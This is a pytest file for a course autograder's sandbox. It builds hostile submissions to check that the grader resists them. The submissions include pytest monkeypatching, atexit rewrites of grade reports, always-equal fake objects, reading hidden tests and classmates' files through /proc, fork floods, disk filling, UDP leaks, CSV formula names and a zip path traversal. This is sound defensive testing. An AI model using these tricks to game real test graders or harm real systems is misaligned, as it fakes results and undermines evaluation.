"""``viddiff grade``: one real batch of misbehaving and hostile submissions, graded by the
real CLI in the bubblewrap sandbox.

The instructor's tests are a tiny folder written here: exercise 11.1.1a (linear blending,
2 public tests) and 11.1.1b (flow, 1 hidden test, placed between the two so that a
crash there must be followed by a fresh worker for the last 11.1.1a test).

* MISBEHAVIOURS: a copy of ``solutions/ex11_1.py`` in which ``interpolate_frames``
  misbehaves only for ``method="flow"``: 11.1.1b scores 0, 11.1.1a keeps its 3 points.
* ATTACKS (issue 14): a determined student's tricks. Each submission's *honest* content is
  the solution for linear blending and nothing for flow (11.1.1a: 3, 11.1.1b: 0); the
  attack, at import time or in the flow branch, tries to earn the hidden point anyway
  (shadow modules, reading the solutions / classmates / hidden tests, patching pytest and
  the plugin, an atexit rewrite of the report, fake-equality objects, escaped and many
  processes, UDP, filling the disk). Each must score exactly its honest 3.
* names: a CSV formula as a submission name, a non-ASCII digit in a file name.
"""

from __future__ import annotations

import csv
import json
import os
import socket
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import pytest

from viddiff_mini import cli
from viddiff_mini.grading import grade, limits, sandbox
from viddiff_mini.grading.answers import exercise_tests_dir, solutions_dir, stubs_dir

pytestmark = pytest.mark.instructor  # tests of the instructor tools: not in the handout

SECRET = "SECRET-HIDDEN-DETAIL"

TESTS = f'''
import pytest
import torch


@pytest.mark.points(2)
@pytest.mark.exercise("11.1.1a")
def test_linear_values(answers):
    ex = answers("ex11_1")
    video = torch.stack([torch.full((2, 2), v) for v in (-1.0, 1.0)])[None, None]
    got = ex.interpolate_frames(video, 2, method="linear")[0, 0, :, 0, 0]
    assert torch.allclose(got, torch.tensor([-1.0, 0.0, 1.0])), f"expected [-1, 0, 1], got {{got}}"


@pytest.mark.points(1)
@pytest.mark.exercise("11.1.1b")
@pytest.mark.hidden
def test_flow_static(answers):
    ex = answers("ex11_1")
    out = ex.interpolate_frames(torch.zeros(1, 3, 2, 6, 6), 2, method="flow")
    assert tuple(out.shape) == (1, 3, 3, 6, 6) and out.abs().max() < 1e-6, "{SECRET}"


@pytest.mark.points(1)
@pytest.mark.exercise("11.1.1a")
def test_linear_shape(answers):
    ex = answers("ex11_1")
    out = ex.interpolate_frames(torch.zeros(1, 3, 3, 4, 4), 3)
    assert tuple(out.shape) == (1, 3, 7, 4, 4), f"expected (1, 3, 7, 4, 4), got {{out.shape}}"
'''

# name -> code run by interpolate_frames(..., method="flow") before the right answer
MISBEHAVIOURS = {
    "wrong": "return torch.ones(1)",
    # an endless loop that ignores the per-test alarm (sleeps, so it burns no CPU here)
    "hang": "import signal, time\n        signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
            "        while True:\n            time.sleep(0.1)",
    "memory": "blob = bytearray(3 << 30)  # over the 2G address-space limit",
    "sys_exit": "import sys\n        sys.exit(3)",
    "os_exit": "import os\n        os._exit(0)",
    "segv_ctypes": "import ctypes\n        ctypes.string_at(0)",
    "segv_kill": "import os, signal\n        os.kill(os.getpid(), signal.SIGSEGV)",
    "print_mb": "print('x' * (8 << 20))",
    # overwrite the repository's graded tests (their path is known; the error is
    # swallowed: the guard's record still fails the test)
    "write_tests": "import os\n"
                   "        p = REPO_TESTS\n"
                   "        try:\n"
                   "            os.chmod(p, 0o644)\n"
                   "        except OSError:\n"
                   "            pass\n"
                   "        try:\n"
                   "            open(p, 'w').write('')\n"
                   "        except OSError:\n"
                   "            pass",
    "write_cwd": "try:\n            open(GRADER_CWD + '/pwned.txt', 'w').write('x')\n"
                 "        except OSError:\n            pass",
}


# name -> (code at the end of the module: runs at every import, code in the flow branch).
# Placeholders SOLUTIONS, SUBS, HIDDEN_TESTS, REPORTS, UDP_PORT are the real paths / port:
# the attacker is assumed to know everything about the grader's machine.
ATTACKS = {
    # pytest.py and a fake viddiff_mini/grading/limits.py in the working folder, then crash
    # so that the grader resumes in a fresh process that might import them
    "shadow_modules": ("", """
import os
for d in {os.getcwd(), os.environ.get("HOME", "."), os.environ.get("TMPDIR", ".")}:
    try:
        open(os.path.join(d, "pytest.py"), "w").write("raise SystemExit('shadowed')\\n")
        os.makedirs(os.path.join(d, "viddiff_mini", "grading"), exist_ok=True)
        open(os.path.join(d, "viddiff_mini", "__init__.py"), "w").write("")
        open(os.path.join(d, "viddiff_mini", "grading", "limits.py"), "w").write(
            "import sys\\nsys.exit(0)\\n")
    except OSError:
        pass
os._exit(1)
"""),
    # run the reference solution
    "copy_reference": ("", """
import glob, importlib.util, os
from viddiff_mini.grading.answers import solutions_dir
for c in [str(solutions_dir() / "ex11_1.py"), SOLUTIONS, *glob.glob("/work/*/solutions/ex11_1.py")]:
    if os.path.isfile(c):
        spec = importlib.util.spec_from_file_location("stolen_reference", c)
        m = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(m)
        return m.interpolate_frames(video, factor, method, flow, max_shift)
"""),
    # in-process patching of pytest's report and of the grading plugin, at import time
    "patch_pytest": ("""
try:
    import _pytest.reports as _reports
    _orig = _reports.TestReport.from_item_and_call

    def _always_passed(item, call):
        rep = _orig(item, call)
        rep.outcome, rep.longrepr = "passed", None
        return rep

    _reports.TestReport.from_item_and_call = staticmethod(_always_passed)
    import viddiff_mini.grading.plugin as _plugin
    import viddiff_mini.grading.report as _report
    _plugin._State.pytest_runtest_logreport = lambda self, report: None
    _summarize = _report.summarize
    _report.summarize = lambda tests, zeroed=None: _summarize(
        [dict(t, outcome="passed") for t in tests])
except Exception:
    pass
""", ""),
    # rewrite every grade.json it can find, now and at exit, inside the guard's old exemption
    "atexit_rewrite": ("""
import atexit, glob, json, os


def _full_marks():
    for path in glob.glob(REPORTS) + glob.glob("/tmp/viddiff_sub_*/report/grade.json"):
        try:
            data = json.load(open(path))
            for t in data["tests"]:
                t["outcome"] = "passed"
            data["earned"] = data["possible"]
            try:
                from viddiff_mini.grading import guard
                ctx = guard.installed().exempt()
            except Exception:
                import contextlib
                ctx = contextlib.nullcontext()
            with ctx:
                open(path, "w").write(json.dumps(data))
        except Exception:
            pass


_full_marks()
atexit.register(_full_marks)
""", ""),
    # a tensor subclass whose __torch_function__ makes every check pass
    "fake_tensor": ("", """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal):
            return True
        out = super().__torch_function__(func, types, args, kwargs or {})
        if getattr(func, "__name__", "") in ("max", "amax", "__lt__", "lt"):
            return torch.tensor(True) if "lt" in func.__name__ else torch.zeros(())
        return out


return torch.ones(1, 3, 3, 6, 6).as_subclass(Liar)
"""),
    # objects whose comparisons are always true: int, tuple and dict subclasses
    "fake_equality": ("", """
class Yes(int):
    def __lt__(self, other):
        return True

    def __eq__(self, other):
        return True

    __hash__ = int.__hash__


class Same(tuple):
    def __eq__(self, other):
        return True

    __hash__ = tuple.__hash__


class AllEqual(dict):
    def __eq__(self, other):
        return True


class Fake:
    shape = Same((9,))
    info = AllEqual(a=1)

    def abs(self):
        return self

    def max(self):
        return Yes(5)

    def __eq__(self, other):
        return True


return Fake()
"""),
    # a classmate's answer, found through the process list or the grader's temp folders
    "read_classmates": ("", """
import glob, importlib.util, os
found = glob.glob("/tmp/viddiff_sub_*/submission/ex11_1.py") + glob.glob(
    SUBS + "/*/lessons/exercises/ex11_1.py")
for pid in os.listdir("/proc"):
    try:
        args = open(f"/proc/{pid}/cmdline", "rb").read().decode().split("\\0")
    except OSError:
        continue
    for a in args:
        if os.path.isdir(a):
            found += glob.glob(os.path.join(a, "*", "lessons", "exercises", "ex11_1.py"))
for c in found:
    try:
        text = open(c).read()
    except OSError:
        continue
    if "ATTACK" not in text and "def interpolate_frames" in text:
        spec = importlib.util.spec_from_file_location("classmate", c)
        m = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(m)
        return m.interpolate_frames(video, factor, method, flow, max_shift)
"""),
    # read the hidden tests (argv, the process list, their known path) and quote them in
    # an error message of every test, public ones included
    "read_hidden_tests": ("""
import os, sys
_paths = [HIDDEN_TESTS, *sys.argv]
for _pid in os.listdir("/proc"):
    try:
        _paths += open(f"/proc/{_pid}/cmdline", "rb").read().decode().split("\\0")
    except OSError:
        pass
for _p in _paths:
    _p = _p.split("::")[0]
    if _p.endswith(".py") and os.path.isfile(_p) and "test" in os.path.basename(_p):
        try:
            raise ValueError("leaked: " + open(_p).read().replace("\\n", " "))
        except OSError:
            pass
""", ""),
    # processes that outlive grading: a new session, then as many as the kernel allows
    "many_processes": ("", """
import ctypes, os, subprocess, time
try:
    subprocess.Popen(["sleep", "600"], start_new_session=True)
except OSError:
    pass
libc = ctypes.CDLL(None, use_errno=True)
for _ in range(300):
    pid = libc.fork()
    if pid == 0:
        libc.setsid()
        time.sleep(600)
        os._exit(0)
    if pid < 0:
        break
"""),
    # UDP out of the sandbox (bypassing Python's audit events with ctypes, then plainly)
    "udp": ("", """
import ctypes, socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
addr = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(UDP_PORT),
                   socket.inet_aton("127.0.0.1"))
ctypes.CDLL(None).sendto(s.fileno(), b"leak-ctypes", 11, 0, addr, len(addr))
try:
    s.sendto(b"leak-python", ("127.0.0.1", UDP_PORT))
except OSError:
    pass
"""),
    # fill the disk: 200 MB in 1 MB files wherever it can write
    "disk_fill": ("", """
import os
for d in ("/tmp", os.getcwd(), "/dev/shm", "/"):
    for i in range(200):
        try:
            with open(os.path.join(d, f"fill_{i}.bin"), "wb") as f:
                f.write(b"x" * (1 << 20))
        except OSError:
            break
"""),
}


def _submission(code: str | None) -> str:
    src = (solutions_dir() / "ex11_1.py").read_text()
    if code is None:
        return src
    return src + f'''

_solved = interpolate_frames


def interpolate_frames(video, factor, method="linear", flow=None, max_shift=4):
    if method == "flow":
        {code}
    return _solved(video, factor, method, flow, max_shift)
'''


def _attack(module_code: str, flow_code: str) -> str:
    """Honest content: the solution for linear blending, nothing for flow (a stub's
    NotImplementedError); plus the attack."""
    src = (solutions_dir() / "ex11_1.py").read_text()
    return src + "\n# ATTACK\n" + module_code + f'''

_solved = interpolate_frames


def interpolate_frames(video, factor, method="linear", flow=None, max_shift=4):
    if method == "flow":
{textwrap.indent(flow_code, " " * 8)}
        raise NotImplementedError("Exercise 11.1.1a: flow interpolation not done")
    return _solved(video, factor, method, flow, max_shift)
'''


def _put(folder: Path, text: str, name: str = "ex11_1.py") -> None:
    (folder / "lessons" / "exercises").mkdir(parents=True)
    (folder / "lessons" / "exercises" / name).write_text(text)


def _sandboxed_worker_processes() -> list[int]:
    """Processes of a sandboxed grading worker (or forked from one) still alive, by their
    command line: the worker's, with the answers at /answers and a grader's sandbox uid."""
    pids = []
    for pid in os.listdir("/proc"):
        try:
            cmd = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        if (b"viddiff_mini.grading.worker" in cmd and b"\0/answers\0" in cmd
                and b"\0--uid\0" + str(grade.SANDBOX_UID_BASE)[:3].encode() in cmd):
            pids.append(int(pid))
    return pids


FORMULA = "=SUM(1+1)"


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    if sandbox.bwrap_problem() is not None:
        pytest.skip(f"no bubblewrap sandbox here: {sandbox.bwrap_problem()}")
    root = tmp_path_factory.mktemp("grade")
    hidden = root / "hidden"
    hidden.mkdir()
    (hidden / "test_ex11_1.py").write_text(TESTS)
    subs = root / "subs"
    subs.mkdir()
    grader_cwd = root / "grader_cwd"
    grader_cwd.mkdir()
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("127.0.0.1", 0))
    listener.setblocking(False)
    places = {"GRADER_CWD": repr(str(grader_cwd)),
              "REPO_TESTS": repr(str(exercise_tests_dir() / "test_ex11_1.py")),
              "HIDDEN_TESTS": repr(str(hidden / "test_ex11_1.py")),
              "SOLUTIONS": repr(str(solutions_dir() / "ex11_1.py")),
              "SUBS": repr(str(subs)), "REPORTS": repr("/tmp/viddiff_sub_*/report/grade.json"),
              "UDP_PORT": str(listener.getsockname()[1])}

    def fill(text: str) -> str:
        for k, v in places.items():
            text = text.replace(k, v)
        return text

    for name, code in {"good": None, **MISBEHAVIOURS}.items():
        _put(subs / name, fill(_submission(code)))
    for name, (module_code, flow_code) in ATTACKS.items():
        _put(subs / name, fill(_attack(module_code, flow_code)))
    stub = subs / "stub"
    _put(stub, (stubs_dir() / "ex11_1.py").read_text())
    _put(subs / FORMULA, _submission(None))
    _put(subs / "unicode_digit", _submission(None), name="ex11_\u0661.py")  # ex11_١.py
    # a zip nested one folder deep, with a decoy copy outside lessons/exercises
    with zipfile.ZipFile(subs / "zipped.zip", "w") as zf:
        zf.writestr("alice/lessons/exercises/ex11_1.py", _submission(None))
        zf.writestr("alice/old/ex11_1.py", "raise SystemExit('decoy')")
        zf.writestr("alice/viddiff_mini/__init__.py", "raise SystemExit('not importable')")
    with zipfile.ZipFile(subs / "evil.zip", "w") as zf:
        zf.writestr("../ex11_1.py", _submission(None))

    out = root / "grades.csv"
    hist = root / "hist.png"
    old = os.getcwd()
    os.chdir(grader_cwd)
    start = time.time()
    try:
        rc = cli.main(["grade", str(subs), "--tests", str(hidden), "--out", str(out),
                       "--timeout", "60", "--per-test-timeout", "5", "--memory", "2G",
                       "--output-cap", "2M", "--disk", "32M", "--jobs", "2",
                       "--histogram", str(hist), "--feedback", str(root / "feedback"),
                       "--no-progress"])
    finally:
        os.chdir(old)
    seconds = time.time() - start
    received = []
    while True:
        try:
            received.append(listener.recv(100))
        except BlockingIOError:
            break
    listener.close()
    text = out.read_text()
    rows = {r["submission"]: r for r in csv.DictReader(out.open())}
    feedback = {p.stem: json.loads(p.read_text()) for p in (root / "feedback").glob("*.json")}
    print(f"\ngraded {len(rows)} submissions in {seconds:.1f} s")
    return {"rc": rc, "rows": rows, "feedback": feedback, "root": root, "hist": hist,
            "hidden": hidden, "grader_cwd": grader_cwd, "udp": received, "csv": text,
            "seconds": seconds}


def test_batch_finishes_with_one_row_per_submission(batch):
    assert batch["rc"] == 0
    names = {"good", "stub", "zipped", "evil", "'" + FORMULA, "unicode_digit", *MISBEHAVIOURS,
             *ATTACKS}
    assert set(batch["rows"]) == names
    assert len(batch["feedback"]) == len(names)
    assert batch["hist"].stat().st_size > 1000
    for row in batch["rows"].values():
        assert row["possible"] == "4"
        assert set(row) >= {"11.1.1a", "11.1.1b", "total", "status", "notes"}
        assert all(row[k].replace(".", "").isdigit() for k in ("11.1.1a", "11.1.1b", "total"))


def test_csv_cells_cannot_be_formulas(batch):
    """A submission named like a formula is shown as text; its honest work still counts."""
    row = batch["rows"]["'" + FORMULA]
    assert row["total"] == "4"
    for line in batch["csv"].splitlines():
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), line
    assert grade.csv_cell("@cmd") == "'@cmd" and grade.csv_cell("-2+3") == "'-2+3"
    assert grade.csv_cell("alice") == "alice" and grade.csv_cell("3.5") == "3.5"


def test_file_names_need_ascii_digits(batch):
    row = batch["rows"]["unicode_digit"]
    assert row["status"] == "rejected" and row["total"] == "0", row
    assert not grade.EX_FILE_RE.match("ex11_\u0661.py") and grade.EX_FILE_RE.match("ex11_1.py")


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_scores_only_its_honest_content(batch, name):
    """Honest content: linear blending right (11.1.1a: 3), flow not done (11.1.1b: 0)."""
    row = batch["rows"][name]
    assert (row["11.1.1a"], row["11.1.1b"], row["total"]) == ("3", "0", "3"), row


def test_attacks_left_nothing_behind(batch):
    assert batch["udp"] == [], "a datagram left the sandbox"
    for _ in range(20):  # the pid namespaces are torn down by the kernel, asynchronously
        if not _sandboxed_worker_processes():
            break
        time.sleep(0.5)
    assert _sandboxed_worker_processes() == [], "processes of a submission outlived grading"
    leftovers = [p for p in Path("/tmp").glob("fill_*.bin")] + \
        [p for p in Path("/tmp").glob("viddiff_sub_*")]
    assert leftovers == []
    print(f"batch time: {batch['seconds']:.1f} s")


@pytest.mark.parametrize("name", ["good", "zipped"])
def test_good_submissions_get_full_points(batch, name):
    row = batch["rows"][name]
    assert (row["11.1.1a"], row["11.1.1b"], row["total"]) == ("3", "1", "4"), row


def test_stub_and_rejected_score_zero(batch):
    assert batch["rows"]["stub"]["total"] == "0"
    fb = batch["feedback"]["stub"]
    assert fb["exercises"][0]["status"] == "not attempted"
    evil = batch["rows"]["evil"]
    assert evil["status"] == "rejected" and "unsafe path" in evil["notes"]
    assert evil["total"] == "0"


@pytest.mark.parametrize("name, reason", [
    ("wrong", "hidden test failed"),
    ("hang", "timed out after 5s"),  # the judge's alarm: the answer cannot ignore it
    ("memory", "hidden test failed"),  # MemoryError: a plain (hidden) test failure
    ("sys_exit", "hidden test failed"),  # SystemExit in the worker: a failure here
    ("os_exit", "ended the interpreter"),
    ("segv_ctypes", "SIGSEGV"),
    ("segv_kill", "SIGSEGV"),
    ("print_mb", "more output than allowed"),
    ("write_tests", "sandbox"),
])
def test_misbehaviour_zeroes_only_what_it_broke(batch, name, reason):
    row = batch["rows"][name]
    if name == "write_tests" and str(exercise_tests_dir()).startswith("/tmp/"):
        # a checkout under /tmp: inside the sandbox that path is in the worker's private
        # tmpfs, so (as for write_cwd) the write lands nowhere real and is not misbehaviour
        assert (row["11.1.1a"], row["11.1.1b"], row["total"]) == ("3", "1", "4"), row
        assert (exercise_tests_dir() / "test_ex11_1.py").stat().st_size > 1000
        return
    assert (row["11.1.1a"], row["11.1.1b"], row["total"]) == ("3", "0", "3"), row
    fb = batch["feedback"][name]
    b = next(e for e in fb["exercises"] if e["exercise"] == "11.1.1b")
    assert reason in json.dumps(b) + " ".join(fb["notes"]), (name, fb)


def test_write_into_the_private_tmp_is_harmless(batch):
    """The grader's cwd is under /tmp here: in the sandbox that path is in the worker's own
    /tmp (a private tmpfs), so the write is allowed, lands nowhere real, and the answer
    keeps its honest full marks."""
    row = batch["rows"]["write_cwd"]
    assert (row["11.1.1a"], row["11.1.1b"], row["total"]) == ("3", "1", "4"), row
    assert list(batch["grader_cwd"].iterdir()) == []


def test_feedback_never_reveals_hidden_tests(batch):
    for name, fb in batch["feedback"].items():
        text = json.dumps(fb)
        assert SECRET not in text and "test_flow_static" not in text, name
        hidden = [t for t in fb["tests"] if t["hidden"]]
        assert len(hidden) == 1 and hidden[0]["test"] == "hidden test 1"
        if hidden[0]["outcome"] == "failed":
            assert hidden[0]["message"] == "hidden test failed"


def test_tests_and_grader_cwd_untouched(batch):
    assert "def test_flow_static" in (batch["hidden"] / "test_ex11_1.py").read_text()
    assert "def test_interpolate_shape_and_dtype" in (
        exercise_tests_dir() / "test_ex11_1.py").read_text()
    assert list(batch["grader_cwd"].iterdir()) == []


def test_csv_written_when_nothing_can_be_graded(tmp_path):
    subs = tmp_path / "subs"
    (subs / "empty").mkdir(parents=True)
    (subs / "broken.zip").write_bytes(b"not a zip")
    hidden = tmp_path / "hidden"
    hidden.mkdir()
    (hidden / "test_ex11_1.py").write_text(TESTS.replace("import torch", ""))
    out = tmp_path / "g.csv"
    result = grade.grade_all(subs, hidden, out, timeout=60, progress=False, sandbox="guard")
    rows = list(csv.DictReader(out.open()))
    assert [r["submission"] for r in rows] == ["broken", "empty"]
    assert all(r["total"] == "0" and r["status"] == "rejected" for r in rows)
    assert "graded 2 submission(s)" in result["text"]


def test_refuses_without_the_sandbox_unless_told(tmp_path, capsys, monkeypatch):
    """No usable bubblewrap: refuse (exit 1, say why and what to do); with
    --unsafe-no-sandbox grade anyway (limits + audit guard only)."""
    subs, hidden = tmp_path / "subs", tmp_path / "hidden"
    hidden.mkdir()
    (hidden / "test_ex11_1.py").write_text(TESTS)
    _put(subs / "good", _submission(None))
    _put(subs / "stub", (stubs_dir() / "ex11_1.py").read_text())
    monkeypatch.setitem(sandbox._PROBLEM, True, "bubblewrap (bwrap) is not installed")
    out = tmp_path / "g.csv"
    rc = cli.main(["grade", str(subs), "--tests", str(hidden), "--out", str(out),
                   "--no-progress"])
    err = capsys.readouterr().err
    assert rc == 1 and "not installed" in err and "--unsafe-no-sandbox" in err
    assert not out.exists()
    rc = cli.main(["grade", str(subs), "--tests", str(hidden), "--out", str(out),
                   "--no-progress", "--unsafe-no-sandbox", "--timeout", "60"])
    rows = {r["submission"]: r["total"] for r in csv.DictReader(out.open())}
    assert rc == 0 and rows == {"good": "4", "stub": "0"}


def test_cli_reports_user_errors(tmp_path, capsys):
    rc = cli.main(["grade", str(tmp_path), "--tests", str(tmp_path / "nope")])
    assert rc == 1
    assert "viddiff grade: --tests" in capsys.readouterr().err
    assert grade.parse_size("1.5G") == int(1.5 * (1 << 30))
    with pytest.raises(ValueError, match="size"):
        grade.parse_size("lots")


def test_limits_launcher(tmp_path):
    """The launcher's limits hold even for code the in-process guard cannot see."""

    inside, outside = tmp_path / "inside", tmp_path / "outside.txt"
    inside.mkdir()
    code = (
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None)\n"
        f"print('creat', libc.creat({str(outside).encode()!r}, 0o644) >= 0)\n"
        f"open({str(inside / 'ok.txt')!r}, 'w').write('x')\n"
        "try:\n    bytearray(3 << 30)\nexcept MemoryError:\n    print('MemoryError')\n"
        "try:\n"
        f"    open({str(inside / 'big')!r}, 'w').write('x' * (2 << 20))\n"
        "except OSError as e:\n    print('EFBIG', e.errno)\n")
    proc = subprocess.run([sys.executable, "-m", "viddiff_mini.grading.limits",
                           "--memory", str(2 << 30), "--fsize", str(1 << 20), "--cpu", "30",
                           "--allow-write", str(inside), "--", sys.executable, "-c", code],
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert "MemoryError" in proc.stdout and "EFBIG 27" in proc.stdout
    assert (inside / "ok.txt").exists()
    if limits.landlock_abi() > 0:  # the kernel refuses the write that bypassed Python
        assert "creat False" in proc.stdout and not outside.exists()
